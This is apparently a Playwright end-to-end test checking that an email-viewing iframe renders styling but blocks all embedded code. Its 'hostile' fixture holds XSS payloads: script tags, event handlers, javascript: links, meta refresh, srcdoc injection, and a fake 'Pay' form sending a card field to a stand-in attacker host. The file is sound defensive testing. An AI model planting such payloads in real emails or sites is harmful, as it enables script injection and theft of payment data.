import { describe, expect } from "vitest";
import type { Page } from "playwright-core";
import { hosted, journey } from "./stage/journey";

const hostile = `
  <style>p { color: rgb(1, 2, 3) }</style>
  <p style="font-weight:700">Dear Ada</p>
  <script>window.ran = "script"</script><script src="https://evil.example/x.js"></script>
  <img src="https://evil.example/seen.png" onerror="window.ran = 'onerror'"><svg onload="window.ran='svg'"></svg>
  <a href="javascript:window.ran='link'">Book now</a><a href="https://evil.example/" target="_top">Click</a>
  <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
  <iframe srcdoc="<script>parent.parent.ran='srcdoc'</script>"></iframe><object data="data:text/html,<script>top.ran=1</script>"></object>
  <form action="https://evil.example/"><input name="card"><button>Pay</button></form>`;

/** As EmailFrame does it, in any page of the app. */
async function show(page: Page, html: string, pictures: boolean) {
  await page.evaluate(([html, pictures]) => new Promise<void>(done => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    addEventListener("message", event => {
      if (event.source !== frame.contentWindow) return;
      if (event.data.ready) frame.contentWindow!.postMessage({ html, pictures }, "*");
      if (event.data.height > 40) done();
    });
    frame.src = "/email.html";
    document.body.append(frame);
  }), [html, pictures] as const);
  return page.frames().find(frame => frame.url().endsWith("/email.html"))!;
}

describe("An email in the app", () => {
  const host = hosted();

  for (const pictures of [true, false])
    journey(`shows its looks and runs nothing of itself, ${pictures ? "with" : "without"} pictures`, host, async desk => {
      const { page } = desk;
      desk.expect(/violates the (following|document.s) Content Security Policy/);
      const asked: string[] = [];
      await page.route("https://evil.example/**", route => { asked.push(route.request().url()); return route.fulfill({ status: 200, body: "" }); });
      const frame = await show(page, hostile, pictures);
      expect(await frame.getByText("Dear Ada").evaluate(p => `${getComputedStyle(p).fontWeight} ${getComputedStyle(p).color}`)).toBe("700 rgb(1, 2, 3)");
      for (const link of await frame.getByRole("link").all()) await link.click({ noWaitAfter: true });
      await frame.getByRole("button", { name: "Pay" }).click({ noWaitAfter: true });
      // That nothing more happens can only be waited out.
      await page.waitForTimeout(500);
      if (pictures) await host().until(async () => asked, found => found.length > 0);

      expect(await page.evaluate(() => "ran" in window)).toBe(false);
      expect(await frame.evaluate(() => "ran" in window)).toBe(false);
      expect(asked).toEqual(pictures ? ["https://evil.example/seen.png"] : []);
      expect(frame.url()).toBe(`${host().address}/email.html`);
      expect(new URL(page.url()).pathname).toBe("/workflows");
      // It has no origin: neither the app, nor its storage, nor the session is in its reach.
      const reach = (look: () => unknown) => frame.evaluate(look).then(() => "reached", () => "refused");
      expect(await reach(() => parent.document.title)).toBe("refused");
      expect(await reach(() => localStorage.length)).toBe("refused");
      expect(await reach(() => document.cookie)).toBe("refused");
      expect(await frame.evaluate(api => fetch(api).then(() => "reached", () => "refused"), `${host().address}/api/contacts`)).toBe("refused");
    });
});
